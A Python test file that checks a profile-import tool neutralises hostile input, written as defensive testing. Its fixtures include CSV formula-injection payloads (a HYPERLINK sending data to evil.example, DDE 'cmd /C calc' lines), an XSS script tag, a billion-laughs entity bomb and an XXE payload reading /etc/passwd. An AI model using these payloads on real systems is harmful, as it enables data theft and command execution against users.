"""Hostile records: formula injection, deep nesting, huge lines, bad encodings, XML; bounded and reported."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import tracemalloc
from pathlib import Path

import pytest

from profilecheck.engine import scan
from profilecheck.export import export
from profilecheck.importers import MAX_LINE_BYTES, import_file
from profilecheck.report import build_report
from profilecheck.store import Store

PACKAGE = Path(__file__).resolve().parents[1] / "profilecheck"
SPIDERS = Path(__file__).resolve().parents[1] / "spiders"

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_injection_neutralised_end_to_end(tmp_path: Path) -> None:
    """CSV in with formulas in platform, handle, name and bio -> import -> scan -> CSV out: no cell of the
    export starts a formula, and the JSONL export keeps the values as they were (JSON is not a spreadsheet)."""
    src = tmp_path / "hostile.csv"
    with src.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["platform", "handle", "name", "bio", "contacts.emails[]"])
        for i, f in enumerate(FORMULAS):
            w.writerow([f, f"{f}{i}", f, f"{f} bio", "shared@ring.example"])  # shared e-mail: refs cells fill
    with Store(tmp_path / "ws") as store:
        rep = import_file(store, src)
        assert len(FORMULAS) == rep.new, rep.errors
        scan(store)
        assert len(FORMULAS) == export(store, tmp_path / "out.csv")
        export(store, tmp_path / "out.jsonl")
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text())))
    assert len(FORMULAS) + 1 == len(rows)
    cells = [c for row in rows[1:] for c in row]
    assert any(c.startswith("'") for c in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    jsonl = [json.loads(x) for x in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert {r["profile_id"] for r in jsonl} == {f"{f.strip()}:{f.strip()}{i}".lower() for i, f in enumerate(FORMULAS)}


def test_report_escapes_hostile_names(tmp_path: Path) -> None:
    """Names and bios with markup come out escaped in the HTML report."""
    src = tmp_path / "p.jsonl"
    rec = {"platform": "x", "handle": "h", "name": "<script>alert(1)</script>", "bio": "<img src=x onerror=y>"}
    src.write_text(json.dumps(rec) + "\n")
    with Store(tmp_path / "ws") as store:
        import_file(store, src)
        scan(store)
        html = build_report(store, tmp_path / "r.html").read_text()
    assert "<script>alert(1)" not in html and "onerror=y>" not in html


def _lines(*lines: bytes) -> bytes:
    return b"\n".join(lines) + b"\n"


GOOD = json.dumps({"platform": "p", "handle": "ok"}).encode()

HOSTILE_LINES = {
    "deep_list": b"[" * 200_000 + b"]" * 200_000,
    "deep_object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep_in_field": b'{"platform":"p","handle":"d","provenance":' + b'{"a":' * 5000 + b"1" + b"}" * 5001,
    "huge_int": b'{"platform":"p","handle":"i","hourly_rate":' + b"9" * 5000 + b"}",
    "nan": b'{"platform":"p","handle":"n","experience_years":NaN}',
    "infinity": b'{"platform":"p","handle":"f","hourly_rate":Infinity}',
    "latin1": b'{"platform":"p","handle":"caf\xe9"}',
    "overlong_utf8": b'{"platform":"p","handle":"\xc0\xaf"}',
    "lone_surrogate": b'{"platform":"p","handle":"\\ud800"}',
    "nul": b'{"platform":"p","handle":"a\x00b"}',
    "bom_mid_file": b'\xef\xbb\xbf{"platform":"p","handle":"bom"}',
    "utf16": '{"platform":"p","handle":"u16"}'.encode("utf-16"),
    "array": b"[1,2,3]",
    "string": b'"just a string"',
    "duplicate_keys": b'{"platform":"p","handle":"a","handle":"b"}',
    "unknown_key": b'{"platform":"p","handle":"x","__proto__":{"admin":true}}',
    "many_photos": json.dumps({"platform": "p", "handle": "m", "photos": [{"url": "http://x/"}] * 50_000}).encode(),
    "huge_bio": json.dumps({"platform": "p", "handle": "b", "bio": "A" * 3_000_000}).encode(),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_LINES))
def test_hostile_jsonl_line_is_reported_and_the_rest_imports(tmp_path: Path, name: str) -> None:
    """Each hostile line: no exception, the good lines around it import, and time and memory stay bounded."""
    src = tmp_path / "in.jsonl"
    src.write_bytes(_lines(GOOD, HOSTILE_LINES[name], GOOD.replace(b'"ok"', b'"ok2"')))
    tracemalloc.start()
    t = time.process_time()
    with Store(tmp_path / "ws") as store:
        rep = import_file(store, src)
        ids = set(store.profile_ids())
        errors = store.import_errors()
    elapsed = time.process_time() - t
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert {"p:ok", "p:ok2"} <= ids
    assert 3 == rep.rows
    assert len(rep.errors) == len(errors) == 3 - rep.new
    for line, reason in rep.errors:
        assert 2 == line and reason
    assert elapsed < 5 and peak < 256 * 1024 * 1024, (elapsed, peak)


def test_line_over_the_cap_is_never_held_whole(tmp_path: Path) -> None:
    """A 60 MB line without a newline is refused by size while holding at most the cap in memory."""
    src = tmp_path / "huge.jsonl"
    with src.open("wb") as fh:
        fh.write(GOOD + b"\n")
        fh.write(b'{"platform":"p","handle":"x","bio":"')
        chunk = b"A" * (1 << 20)
        for _ in range(60):
            fh.write(chunk)
        fh.write(b'"}\n' + GOOD.replace(b'"ok"', b'"after"') + b"\n")
    tracemalloc.start()
    with Store(tmp_path / "ws") as store:
        rep = import_file(store, src)
        ids = set(store.profile_ids())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert {"p:ok", "p:after"} == ids
    assert [(2, f"line is {60 * (1 << 20) + 39} bytes, over the {MAX_LINE_BYTES} byte cap")] == rep.errors
    assert peak < 4 * MAX_LINE_BYTES, peak


CSV_CASES = {
    "latin1_row": b"platform,handle,name\np,a,Ren\xe9\np,b,ok\n",
    "nul_byte": b"platform,handle,name\np,a,x\x00y\np,b,ok\n",
    "unclosed_quote": b'platform,handle,name\np,a,"never closed\np,b,ok\n',
    "field_over_limit": b"platform,handle,name\np,a," + b"x" * 200_000 + b"\np,b,ok\n",
    "extra_fields": b"platform,handle,name\np,a,x,y,z\np,b,ok\n",
    "unknown_column": b"platform,handle,evil\np,a,x\np,b,ok\n",
    "truncated_utf8_at_eof": b"platform,handle,name\np,b,ok\n,,\xd9",  # looped forever (found by fuzzing)
    "bad_list_path": b"platform,handle,photos[].url\np,a,http://x/|http://y/\np,b,ok\n",
}


@pytest.mark.parametrize("name", sorted(CSV_CASES))
def test_hostile_csv_reported_and_rest_imports(tmp_path: Path, name: str) -> None:
    """Bad CSV rows are reported with a line; the import never raises and ends in bounded time."""
    src = tmp_path / "in.csv"
    src.write_bytes(CSV_CASES[name])
    t = time.process_time()
    with Store(tmp_path / "ws") as store:
        rep = import_file(store, src)
        ids = set(store.profile_ids())
    assert time.process_time() - t < 5
    assert rep.imported + len(rep.errors) >= 1
    if name == "unknown_column":  # the mapping-less format refuses unknown fields, row by row
        assert [2, 3] == [line for line, _ in rep.errors]
    elif name not in ("latin1_row", "unclosed_quote", "truncated_utf8_at_eof"):
        # (bad bytes or an open quote swallow what follows: that is reported)
        assert "p:b" in ids, rep.errors
    for _line, reason in rep.errors:
        assert reason


_XML_PARSERS = re.compile(
    r"^\s*(?:from|import)\s+(?:xml\.(?:etree|dom|sax|parsers)|lxml\.etree|lxml\.objectify)\b|"
    r"\b(?:ElementTree|etree|minidom|expatbuilder)\.(?:fromstring|parse|XML|iterparse|XMLParser)\(",
    re.MULTILINE,
)


def test_xml_is_only_parsed_through_defusedxml() -> None:
    """No module of ours parses XML with the standard library or lxml directly (entity expansion, XXE):
    XML goes through defusedxml, HTML through extruct/parsel."""
    offenders = []
    for root in (PACKAGE, SPIDERS):
        for path in root.rglob("*.py"):
            for m in _XML_PARSERS.finditer(path.read_text(encoding="utf-8")):
                offenders.append(f"{path.relative_to(root.parent)}: {m.group(0).strip()}")
    assert [] == offenders


def test_defusedxml_refuses_bombs_and_external_entities() -> None:
    """The parser we prescribe refuses entity expansion and external entities."""
    import defusedxml.ElementTree as safe_et
    from defusedxml import DTDForbidden, EntitiesForbidden

    laughs = (
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
        + "]><l>&i;</l>"
    )
    xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    for doc in (laughs, xxe):
        with pytest.raises((EntitiesForbidden, DTDForbidden)):
            safe_et.fromstring(doc)
